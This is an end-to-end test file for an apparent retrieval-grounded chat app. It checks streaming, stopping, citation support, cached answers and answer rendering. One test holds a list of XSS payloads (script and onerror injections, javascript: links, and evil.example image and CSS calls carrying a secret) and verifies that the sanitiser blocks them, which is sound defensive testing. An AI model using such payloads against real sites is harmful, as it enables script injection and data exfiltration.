import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openBrowser, openPage, signIn } from './support/browser.ts'
import { type GepetoServer, owner, startGepeto, untilRead } from './support/gepeto-server.ts'
import { type ScriptedModel, scriptedModelId, startScriptedModel } from './support/scripted-model.ts'

let server: GepetoServer
let model: ScriptedModel
let browser: Browser
beforeAll(async () => {
  model = await startScriptedModel()
  ;[server, browser] = await Promise.all([
    startGepeto({
      ...model.variables,
      GEPETO_ADMIN_EMAIL: owner.email,
      GEPETO_ADMIN_PASSWORD: owner.password,
    }),
    openBrowser(),
  ])
  const [collection] = (await server.gepeto.collections.list()).items
  await server.gepeto.documents.add(collection?.id ?? '', {
    title: 'Station handbook',
    text: 'The coolant pump must be primed with glycol. The filter is changed in May. The siren is tested on Mondays.',
  })
  await untilRead(server.gepeto, collection?.id ?? '')
})
afterAll(async () => {
  await browser?.close()
  await server?.close()
  model?.close()
})

async function askScripted(page: Page, question: string) {
  await page.evaluate((id) => localStorage.setItem('gepeto.model', id), scriptedModelId)
  await page.goto('/')
  await page.getByRole('button', { name: /Model: scripted/ }).waitFor()
  await page.getByLabel('Your question').fill(question)
  await page.keyboard.press('Enter')
}

/** A promise and the way to keep it. */
function gate() {
  let open = () => {}
  const opened = new Promise<void>((resolve) => {
    open = resolve
  })
  return { open, opened }
}

describe('an answer that is being written', () => {
  it('goes on after a reload in its middle', async () => {
    const { page } = await openPage(browser, server.address)
    await signIn(page)
    const rest = gate()
    model.says('The coolant pump must be ', rest.opened, 'primed with glycol. [1]')
    await askScripted(page, 'How is the coolant pump primed?')
    await page.getByText('The coolant pump must be').first().waitFor()
    await page.waitForURL(/\/chat\//)

    await page.reload()
    await page.getByText('The coolant pump must be').first().waitFor()
    rest.open()

    await page.getByRole('button', { name: /^Citation 1: Station handbook/ }).waitFor()
    await page.getByRole('button', { name: 'Copy with sources' }).waitFor()
    expect(await page.locator('.answer').textContent()).toContain('must be primed with glycol.')
    await page.context().close()
  })

  it('stops when told to, and can be asked again', async () => {
    const { page } = await openPage(browser, server.address)
    await signIn(page)
    const never = gate()
    model.says('The filter is ', never.opened)
    await askScripted(page, 'When is the filter changed?')
    await page.getByText('The filter is').first().waitFor()
    await page.getByRole('button', { name: 'Stop' }).click()
    await page.getByText('You stopped this answer.').waitFor()
    never.open()

    await page.reload()
    await page.getByText('You stopped this answer.').waitFor()
    model.says('The filter is changed in May. [1]')
    await page.getByRole('button', { name: 'Ask again' }).click()
    await page.getByText('changed in May').first().waitFor()
    await page.context().close()
  })

  it('underlines a sentence that nothing supports and says why', async () => {
    const { page } = await openPage(browser, server.address)
    await signIn(page)
    model.says(
      'The siren is tested on Mondays. [1] The siren was built by Otto Lilienthal in Berlin in 1884. [1]',
    )
    await askScripted(page, 'When is the siren tested?')
    await page.getByText('1 of 2 sentences supported').waitFor()
    await expect
      .poll(() => page.locator('.answer .unsupported').allTextContents())
      .toEqual(['The siren was built by Otto Lilienthal in Berlin in 1884.'])
    expect(await page.getByText('No cited passage supports this sentence.').isVisible()).toBe(true)
    await page.context().close()
  })
})

describe('an answer that was given before', () => {
  it('says so, and is composed anew when it is refreshed', async () => {
    const { page } = await openPage(browser, server.address)
    await signIn(page)
    const question = 'What must the coolant pump be primed with?'
    model.says('The coolant pump must be primed with glycol. [1]')
    await askScripted(page, question)
    await page.getByText('supported by your documents').waitFor()
    expect(await page.getByText('answered before').count()).toBe(0)

    model.says('With glycol the coolant pump must be primed. [1]')
    await askScripted(page, 'what must the coolant pump be primed with')
    await page.getByText('answered before').waitFor()
    expect(await page.locator('.answer').textContent()).toContain('must be primed with glycol.')

    await page.getByRole('button', { name: 'Answer anew' }).last().click()
    await page.getByText('With glycol the coolant pump').waitFor()
    expect(await page.getByText('answered before').count()).toBe(1)
    await page.context().close()
  })
})

describe('what an answer may hold', () => {
  it('draws tables, code and formulas', async () => {
    const { page } = await openPage(browser, server.address)
    await signIn(page)
    model.says(
      'The siren is tested on Mondays. [1]\n\n| Part | Month |\n| --- | ---: |\n| Filter | May |\n\n```js\nconst a = 1\n```\n\nand $E = mc^2$ holds.',
    )
    await askScripted(page, 'Show me all of it, please: siren and filter')
    await page.getByRole('cell', { name: 'Filter' }).waitFor()
    await page.locator('.answer .hljs-keyword').waitFor()
    await page.locator('.answer .katex').first().waitFor()
    expect(await page.getByRole('button', { name: 'Copy code' }).isVisible()).toBe(true)
    await page.context().close()
  })

  it('runs, fetches and frames nothing, whatever stands in it', async () => {
    const { page, faults } = await openPage(browser, server.address)
    await signIn(page)
    const foreign: string[] = []
    page.on('request', (request) => {
      if (!request.url().startsWith(server.address) && !request.url().startsWith('blob:'))
        foreign.push(request.url())
    })
    const attacks = [
      '<script>window.broken = 1</script>',
      '<img src=x onerror="window.broken = 2">',
      '<svg/onload=window.broken=3>',
      '<iframe src="https://evil.example/"></iframe>',
      '![picture](https://evil.example/pixel.png?secret=1)',
      '[click](javascript:window.broken=4)',
      '[click](data:text/html,<script>window.broken=5</script>)',
      '<a href="javascript:window.broken=6">x</a>',
      '[a]: javascript:window.broken=7\n\n[a][a]',
      '$\\href{javascript:window.broken=8}{x}$',
      '$\\includegraphics{https://evil.example/x.png}$',
      '<style>@import url(https://evil.example/x.css)</style>',
      '<math><mtext><style><img src=x onerror=window.broken=9></style></mtext></math>',
      '```html\n<img src=x onerror=window.broken=10>\n```',
    ]
    model.says(`The siren is tested on Mondays. [1]\n\n${attacks.join('\n\n')}\n\nThe end.`)
    await askScripted(page, 'When is the siren tested, and what else is there?')
    await page.getByText('The end.').waitFor()
    await page.getByRole('button', { name: 'Copy with sources' }).waitFor()

    const found = await page.evaluate(() => ({
      broken: 'broken' in window,
      elements: document.querySelectorAll('.answer :is(script, img, iframe, style, object, embed, form)')
        .length,
      links: [...document.querySelectorAll<HTMLAnchorElement>('.answer a')].map(
        (link) => new URL(link.href).protocol,
      ),
      rel: [...document.querySelectorAll<HTMLAnchorElement>('.answer a')].every((link) =>
        link.rel.includes('noopener'),
      ),
    }))
    expect(found).toMatchObject({ broken: false, elements: 0, rel: true })
    expect(found.links.every((protocol) => ['http:', 'https:', 'mailto:'].includes(protocol))).toBe(true)
    expect(foreign).toEqual([])
    expect(faults.filter((fault) => !/refused|401/i.test(fault))).toEqual([])
    await page.context().close()
  })
})
